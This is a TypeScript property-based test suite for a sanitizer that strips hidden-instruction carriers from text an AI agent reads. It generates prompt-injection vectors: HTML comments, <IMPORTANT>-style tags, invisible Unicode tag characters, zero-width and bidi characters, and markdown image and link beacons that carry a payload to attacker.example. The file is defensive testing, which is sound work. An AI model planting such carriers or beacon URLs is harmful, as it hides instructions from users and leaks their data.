/**
 * The sanitizer (SPEC X4) as properties: idempotent on any text; a hidden-instruction
 * vector embedded anywhere in clean text never comes through (nor any invisible
 * character); clean text, generated or from the corpus, comes back unchanged.
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  HTML_COMMENT,
  INJECTION_BLOCK,
  INJECTION_TAGS,
  INVISIBLE_UNICODE,
  MARKDOWN_IMAGE,
  type SanitizeKind,
} from '../../src/guard/sanitize-rules.js';
import { sanitizeText } from '../../src/guard/sanitize-text.js';

type Attack = { name: string; kind?: SanitizeKind; text: string; expect: string[]; absent?: string[] };
const load = <T>(file: string): T[] =>
  JSON.parse(readFileSync(new URL(`../support/attack-corpus/${file}`, import.meta.url), 'utf8')) as T[];
const attacks = load<Attack>('attacks.json');
const clean = load<{ text: string }>('clean.json').map((c) => c.text);

const matches = (re: RegExp, text: string) => new RegExp(re.source, re.flags.replace('g', '')).test(text);
const kind = fc.constantFrom<SanitizeKind>('description', 'result');

// Clean words: any code point except whitespace, the markup openers `<` and `]`, and what
// the sanitizer strips (invisible and control characters).
const STRIPPED = new RegExp(`${INVISIBLE_UNICODE.source}|[\\p{Cc}\\p{Cf}\\p{Z}\\s<\\]\\uFFFD]`, 'u');
const cleanChar = fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }).filter((c) => !STRIPPED.test(c));
const word = fc.string({ unit: cleanChar, minLength: 1, maxLength: 12 });
const separator = fc.constantFrom(' ', ' ', ' ', '\n', ', ', '. ', '\t', '\n\n');
const words = (max: number) => fc.array(fc.tuple(word, separator), { maxLength: max });
const cleanText = words(30).map((parts) => parts.flat().join(''));
const corpusText = fc.subarray(clean, { minLength: 1, maxLength: 6 }).map((picked) => picked.join('\n'));

// A marker that clean text cannot contain (no generated word has `~`, no corpus text this).
const payload = fc.stringMatching(/^[A-Z]{4,12}$/).map((s) => `~PAYLOAD~${s}`);
const tagChars = (text: string) =>
  [...text].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join('');

/** Carriers that hide their payload: after sanitizing, the payload must be gone. */
const hiding = fc.oneof(
  payload.map((p) => ({ vector: `<!-- ${p} -->`, flag: 'html_comment', payload: p })),
  payload.map((p) => ({ vector: `<!-- ${p}`, flag: 'html_comment', payload: p })),
  fc.tuple(fc.constantFrom(...INJECTION_TAGS), fc.boolean(), payload).map(([tag, upper, p]) => {
    const t = upper ? tag.toUpperCase() : tag;
    return { vector: `<${t}>${p}</${t}>`, flag: 'injection_block', payload: p };
  }),
  payload.map((p) => ({ vector: `![logo](https://attacker.example/p.png?d=${p})`, flag: 'image_beacon', payload: p })),
  payload.map((p) => ({ vector: `[docs](https://attacker.example/t?d=${p})`, flag: 'link_beacon', payload: p })),
  payload.map((p) => ({ vector: `<img src="https://attacker.example/${p}">`, flag: 'tag', payload: p })),
  payload.map((p) => ({ vector: tagChars(p), flag: 'invisible_unicode', payload: p })),
);

/** Carriers made of invisible characters around visible text: none may remain. */
const invisible = fc
  .oneof(
    fc
      .tuple(word, fc.constantFrom('\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF'))
      .map(([w, zw]) => `${[...w].join(zw)}${zw}`),
    word.map((w) => `\u202E${w}\u202C`),
    word.map((w) => `\u2066${w}\u2069\u200F`),
    word.map((w) => `${w}${String.fromCodePoint(0xe0100)}${String.fromCodePoint(0xe0101)}`),
  )
  .map((vector) => ({ vector }));

/** A vector inserted between two words of clean text (or at either end). */
const embedded = <T extends { vector: string }>(vectors: fc.Arbitrary<T>) =>
  fc.tuple(fc.oneof(cleanText, corpusText), vectors, fc.nat()).map(([text, vector, at]) => {
    const cuts = [0, text.length, ...[...text.matchAll(/\s/g)].map((m) => m.index)];
    const cut = cuts[at % cuts.length] ?? 0;
    return { text, vector, embedded: `${text.slice(0, cut)} ${vector.vector} ${text.slice(cut)}` };
  });

describe('sanitizeText (property)', () => {
  it('is idempotent on any text, markup fragments and attacks included', () => {
    const fragment = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.constantFrom(
        '<',
        '>',
        '<!--',
        '-->',
        '](',
        '![',
        ')',
        '?',
        '<IMPORTANT>',
        '</important>',
        '<b>',
        '<img src=x>',
      ),
      fc.constantFrom('\u200B', '\u202E', '\u{E0041}', '\u001b[2J', ' '.repeat(30), '\n\n\n\n', '…[truncated]'),
      fc.constantFrom(...attacks.map((a) => a.text)),
    );
    fc.assert(
      fc.property(
        fc.array(fragment, { maxLength: 12 }),
        kind,
        fc.option(fc.integer({ min: 0, max: 600 })),
        (parts, k, max) => {
          const options = max === null ? { kind: k } : { kind: k, maxLength: max };
          const once = sanitizeText(parts.join(''), options);
          const twice = sanitizeText(once.text, options);
          expect(twice.text).toBe(once.text);
          expect(twice.changed).toBe(false);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('never lets a hidden payload through, wherever it sits in clean text', () => {
    fc.assert(
      fc.property(embedded(hiding), kind, ({ vector, embedded: text }, k) => {
        const r = sanitizeText(text, { kind: k, maxLength: 1_000_000 });
        expect(r.text).not.toContain(vector.payload);
        expect(r.flags).toContain(vector.flag);
        expect(matches(INVISIBLE_UNICODE, r.text)).toBe(false);
        expect(matches(HTML_COMMENT, r.text)).toBe(false);
        expect(matches(INJECTION_BLOCK, r.text)).toBe(false);
        expect(matches(MARKDOWN_IMAGE, r.text)).toBe(false);
      }),
      { numRuns: 400 },
    );
  });

  it('leaves no invisible character of zero-width, bidi or selector carriers', () => {
    fc.assert(
      fc.property(embedded(invisible), kind, ({ embedded: text }, k) => {
        const r = sanitizeText(text, { kind: k, maxLength: 1_000_000 });
        expect(matches(INVISIBLE_UNICODE, r.text)).toBe(false);
        expect(r.flags).toContain('invisible_unicode');
      }),
      { numRuns: 300 },
    );
  });

  it('strips every corpus attack vector embedded at a random place in clean text', () => {
    // Padding and truncation push text out of sight by length, which embedding changes.
    const vectors = attacks.filter(
      (a) => (a.absent ?? []).length > 0 && !a.expect.includes('padding') && !a.expect.includes('truncated'),
    );
    fc.assert(
      fc.property(
        embedded(fc.constantFrom(...vectors.map((a) => ({ vector: a.text, attack: a })))),
        ({ text, vector, embedded: all }) => {
          const r = sanitizeText(all, { kind: 'result' });
          for (const secret of vector.attack.absent ?? [])
            if (!text.includes(secret)) expect(r.text).not.toContain(secret);
          expect(r.flags).toEqual(expect.arrayContaining(vector.attack.expect));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('never changes clean text, generated or from the corpus', () => {
    fc.assert(
      fc.property(fc.oneof(cleanText, corpusText), kind, (text, k) => {
        const r = sanitizeText(text, { kind: k, maxLength: Math.max(text.length, 1) });
        expect(r.text).toBe(text);
        expect(r.changed).toBe(false);
      }),
      { numRuns: 400 },
    );
  });
});
